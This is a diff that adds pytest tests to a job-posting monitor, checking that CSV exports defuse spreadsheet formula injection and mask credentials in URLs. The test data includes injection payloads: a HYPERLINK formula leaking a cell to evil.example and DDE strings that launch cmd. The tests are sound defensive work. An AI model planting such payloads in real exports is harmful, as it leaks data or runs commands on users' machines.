@@ -14,7 +14,7 @@ from click.testing import CliRunner, Result
 
 from monitor.cli import cli
 from monitor.demo import FIRST_VERSION, REVISED_VERSION, SeedServer, seeds_dir
-from monitor.export import COLUMNS, read_columns
+from monitor.export import COLUMNS, export_lines, read_columns
 
 
 @pytest.fixture
@@ -112,3 +112,37 @@ def test_read_columns_cope_with_a_version_without_pay_or_lists() -> None:
     assert read["pay_min"] is None
     assert read["locations"] == []
     assert read_columns(None)["title"] == ""
+
+
+HOSTILE_CELLS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1, US",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1dcmd|' /C calc'!A0",
+)
+
+
+@pytest.mark.parametrize("text", HOSTILE_CELLS)
+def test_csv_cells_a_spreadsheet_would_run_are_shown_as_text(text: str) -> None:
+    row = {"posting_id": 1, "url": "https://jobs.example/a", "title": text, "company": text,
+           "locations": [text, "Berlin"], "pay_min": 120000, "pay_max": -5.5}  # fmt: skip
+    lines = "".join(export_lines([row], "postings", "csv"))
+    got = next(csv.DictReader(io.StringIO(lines, newline="")))
+    assert got["title"] == "'" + text
+    assert got["company"] == "'" + text
+    assert got["locations"] == f"'{text}; Berlin"
+    assert (got["pay_min"], got["pay_max"]) == ("120000", "-5.5")  # numbers stay numbers
+    record = json.loads(next(iter(export_lines([row], "postings", "jsonl"))))
+    assert record["title"] == text  # JSON Lines are data, not a spreadsheet: as they are
+
+
+def test_exports_mask_credentials_in_watched_urls() -> None:
+    url = "http://bob:UrlSecretPw@jobs.example/ok"
+    row = {"posting_id": 1, "url": url, "data": {"url": url, "title": "x"}}
+    for what, fmt in (("postings", "csv"), ("versions", "jsonl"), ("changes", "csv")):
+        text = "".join(export_lines([row], what, fmt))
+        assert "UrlSecretPw" not in text
+        assert "bob:***@jobs.example" in text
